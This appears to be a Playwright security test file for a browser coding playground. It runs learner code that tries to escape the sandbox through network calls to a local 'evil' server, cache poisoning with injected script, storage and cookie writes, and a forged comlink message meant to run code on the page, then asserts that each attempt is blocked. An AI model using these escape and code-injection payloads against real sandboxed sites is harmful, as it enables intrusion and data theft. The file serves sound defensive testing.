// Plays the attacker: code from a share link tries to get out of the sandbox — the network, the
// site's storage and caches, and the page itself through its message port — and a server that
// calls itself, a Stop in the middle of a run. Every attempt must fail, and the page, its storage,
// its caches and a local "evil" server must see nothing of it.
import { createServer, type Server } from 'node:http';
import type { Frame, Page } from 'playwright-core';
import { test, assert } from './harness';
import { encodeShare } from '../../src/lib/course/share';
import { consoleText, openPlayground, run } from './playground-page';

/** A server on this machine that records every request it gets (and would answer them all). */
async function evilServer(): Promise<{ origin: string; hits: string[]; close(): Promise<void>; server: Server }> {
	const hits: string[] = [];
	const server = createServer((req, res) => {
		hits.push(`${req.method} ${req.url}`);
		res.setHeader('access-control-allow-origin', '*');
		res.setHeader('content-type', req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain');
		res.end(req.url?.endsWith('.js') ? 'self.__evil = 1; export const x = 1;' : 'pwned');
	});
	server.on('upgrade', (req, socket) => {
		hits.push(`UPGRADE ${req.url}`);
		socket.destroy();
	});
	await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
	const port = (server.address() as { port: number }).port;
	return { origin: `http://127.0.0.1:${port}`, hits, server, close: () => new Promise((ok) => server.close(() => ok())) };
}

/** Learner code that tries every way out it can think of and prints what happened to each. */
function attackCode(evil: string): string {
	return `const g = globalThis as any;
const EVIL = ${JSON.stringify(evil)};
async function attempt(name: string, f: () => unknown) {
  try {
    const r = await f();
    console.log(name + ': REACHED ' + String(r).slice(0, 60));
  } catch (e) {
    console.log(name + ': blocked (' + (e as Error).name + ')');
  }
}
const until = <T>(executor: (ok: (v: T) => void, no: (e: unknown) => void) => void) => new Promise<T>(executor);

export async function main() {
  await attempt('fetch', () => g.fetch(EVIL + '/fetch').then((r: any) => r.status));
  await attempt('xhr', () => until((ok, no) => {
    const x = new g.XMLHttpRequest();
    x.open('GET', EVIL + '/xhr');
    x.onload = () => ok(x.status);
    x.onerror = () => no(new TypeError('xhr failed'));
    x.send();
  }));
  await attempt('websocket', () => until((ok, no) => {
    const w = new g.WebSocket(EVIL.replace('http', 'ws') + '/ws');
    w.onopen = () => ok('open');
    w.onerror = () => no(new TypeError('websocket failed'));
  }));
  await attempt('eventsource', () => until((ok, no) => {
    const s = new g.EventSource(EVIL + '/sse');
    s.onopen = () => ok('open');
    s.onerror = () => { s.close(); no(new TypeError('eventsource failed')); };
  }));
  await attempt('sendBeacon', () => {
    if (typeof g.navigator.sendBeacon !== 'function') throw new TypeError('no sendBeacon here');
    return g.navigator.sendBeacon(EVIL + '/beacon', 'x');
  });
  const remote = EVIL + '/module.js';
  await attempt('import', () => import(remote));
  await attempt('importScripts', () => g.importScripts(EVIL + '/classic.js'));
  await attempt('worker', () => new g.Worker(EVIL + '/worker.js'));
  await attempt('caches', async () => {
    const names = await g.caches.keys();
    const cache = await g.caches.open(names[0] ?? 'trace-tour-poison');
    await cache.put('/', new g.Response('<script>window.__pwned = 1</script>', { headers: { 'content-type': 'text/html' } }));
    return 'poisoned ' + (names[0] ?? 'a new cache');
  });
  await attempt('indexedDB', () => until((ok, no) => {
    const r = g.indexedDB.open('trace-tour');
    r.onsuccess = () => ok('opened');
    r.onerror = () => no(r.error);
  }));
  await attempt('localStorage', () => g.localStorage.setItem('pwned', '1'));
  await attempt('cookie', () => { if (!('document' in g)) throw new ReferenceError('no document'); return (g.document.cookie = 'pwned=1'); });
  // the port to the page: catch it as the runtime uses it, then speak comlink to it (the old bridge
  // built and called a Function on the page this way) and forge a message of our own
  await attempt('port', () => until((ok) => {
    const real = g.MessagePort.prototype.postMessage;
    g.MessagePort.prototype.postMessage = function (this: MessagePort, m: unknown, t?: any) {
      g.MessagePort.prototype.postMessage = real;
      real.call(this, m, t);
      real.call(this, { id: 'x', type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [{ type: 'RAW', value: 'localStorage.setItem("pwned", "1"); document.title = "pwned"' }] });
      ok('sent');
    };
    console.log('port: posting');
  }));
  console.log('unreachable? the page should have stopped this service');
}
`;
}

const ESCAPES = ['fetch', 'xhr', 'websocket', 'eventsource', 'sendBeacon', 'import', 'importScripts', 'worker', 'caches', 'indexedDB', 'localStorage', 'cookie'];

/** What the page of the site holds that the attack went for. */
async function siteState(where: Page | Frame) {
	return where.evaluate(async () => ({
		// a cross-site embed may be refused storage by the browser: then nothing could be written to it either
		pwned: (() => {
			try {
				return localStorage.getItem('pwned');
			} catch {
				return null;
			}
		})(),
		title: document.title,
		marker: (window as unknown as { __pwned?: number; __evil?: number }).__pwned ?? (window as unknown as { __evil?: number }).__evil ?? null,
		caches: 'caches' in self ? await caches.keys().catch(() => [] as string[]) : []
	}));
}

async function assertAttackFailed(where: Page | Frame, hits: string[]) {
	const text = await consoleText(where);
	for (const name of ESCAPES) assert.match(text, new RegExp(`main │ ${name}: blocked`), `${name} was not blocked:\n${text}`);
	assert.doesNotMatch(text, /REACHED/);
	// the forged message made the page stop the service, so nothing after it ran
	assert.match(text, /main │ Protocol: sent a message the page refused/);
	assert.doesNotMatch(text, /unreachable\?/);
	const state = await siteState(where);
	assert.equal(state.pwned, null, 'localStorage of the site untouched');
	assert.notEqual(state.title, 'pwned');
	assert.equal(state.marker, null);
	assert.ok(!state.caches.includes('trace-tour-poison'), `no cache made by learner code: ${state.caches}`);
	assert.deepEqual(hits, [], 'the local server saw no request');
}

test('learner code from a share link cannot reach the network, the site’s storage and caches, or the page', async ({ page, url, context }) => {
	const evil = await evilServer();
	try {
		await openPlayground(page, url, { 'main.ts': attackCode(evil.origin) });
		await run(page);
		await assertAttackFailed(page, evil.hits);
		// a fresh visit: nothing poisoned comes back
		const again = await context.newPage();
		await again.goto(url('/playground'));
		await again.getByRole('button', { name: /^Run/ }).waitFor();
		assert.equal(await again.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null), null);
		assert.deepEqual(evil.hits, []);
	} finally {
		await evil.close();
	}
});

test('the same attack from /embed/playground inside a cross-site iframe fails the same way', async ({ page, url }) => {
	const evil = await evilServer();
	// the documentation site: another site (localhost vs 127.0.0.1) embedding ours
	const docs = createServer((_, res) => {
		res.setHeader('content-type', 'text/html');
		const src = url('/embed/playground').replace('127.0.0.1', 'localhost') + encodeShare({ 'main.ts': attackCode(evil.origin) });
		res.end(`<!doctype html><title>Docs</title><h1>Docs</h1><iframe src="${src}" width="900" height="700" title="Trace Tour example"></iframe>`);
	});
	await new Promise<void>((ok) => docs.listen(0, '127.0.0.1', ok));
	try {
		await page.goto(`http://127.0.0.1:${(docs.address() as { port: number }).port}/`);
		const frame = page.frames().find((f) => f.url().includes('/embed/playground'))!;
		assert.ok(frame, 'the embed loaded');
		await frame.getByRole('tab', { name: 'main.ts' }).waitFor({ timeout: 30_000 });
		await run(frame);
		await assertAttackFailed(frame, evil.hits);
		assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null, 'the docs page untouched too');
	} finally {
		await evil.close();
		await new Promise((ok) => docs.close(ok));
	}
});

test('a server that calls itself twice per request: the page keeps answering, the run ends naming the loop', async ({ page, url }) => {
	await openPlayground(page, url, {
		'client.ts': `import { fetch } from 'tour/http';\nexport async function main() {\n  const res = await fetch('http://echo:8080/');\n  console.log('client got', res.status);\n}\n`,
		'echo.ts': `import { serve, fetch } from 'tour/http';\nserve(8080, async () => {\n  await Promise.all([fetch('http://echo:8080/'), fetch('http://echo:8080/')]);\n  return 'ok';\n});\n`
	});
	// measured from a settled page: opening it (Monaco, the compiler) has long tasks of its own
	await page.getByRole('status', { name: 'Run status' }).getByText('Ready', { exact: true }).waitFor({ timeout: 30_000 });
	await page.waitForTimeout(1000);
	await page.evaluate(() => {
		const w = window as unknown as { gaps: number[] };
		w.gaps = [];
		let last = performance.now();
		setInterval(() => {
			const now = performance.now();
			w.gaps.push(now - last);
			last = now;
		}, 50);
	});
	const t0 = Date.now();
	await run(page, 20_000);
	const elapsed = Date.now() - t0;
	const worst = await page.evaluate(() => Math.max(...(window as unknown as { gaps: number[] }).gaps));
	assert.ok(elapsed < 10_000, `the run ended after ${elapsed} ms`);
	assert.ok(worst < 500, `the page stopped answering for ${Math.round(worst)} ms`);
	assert.match(await consoleText(page), /runner │ Request limit: more than \d+ requests were in flight at once \(\d+ of them echo → echo\)/);
});

test('Stop ends a run at once; the Console keeps its lines once, in order, with the stop last', async ({ page, url }) => {
	await openPlayground(page, url, {
		'main.ts': `import { sleep } from 'tour/time';\nexport async function main() {\n  for (let i = 1; ; i++) {\n    console.log('tick ' + i);\n    await sleep(20);\n  }\n}\n`
	});
	await page.getByRole('button', { name: /^Run/ }).click();
	await page.getByRole('log', { name: 'Console' }).getByText('tick 10', { exact: true }).waitFor({ timeout: 20_000 });
	const t0 = Date.now();
	await page.getByRole('button', { name: 'Stop' }).click();
	await page.getByRole('status', { name: 'Run status' }).getByText('Stopped', { exact: true }).waitFor({ timeout: 2_000 });
	assert.ok(Date.now() - t0 < 1_500, `stopped after ${Date.now() - t0} ms`);
	await page.waitForTimeout(300);
	const lines = (await consoleText(page)).split('\n').filter((l) => l.includes('│'));
	assert.match(lines.at(-1)!, /runner │ Run stopped\./);
	const ticks = lines.filter((l) => /main │ tick \d+$/.test(l)).map((l) => Number(l.match(/tick (\d+)$/)![1]));
	assert.deepEqual(ticks, ticks.map((_, i) => i + 1), 'every tick once, in order');
	assert.equal(await page.getByRole('button', { name: 'Stop' }).count(), 0, 'no Stop button once stopped');
});
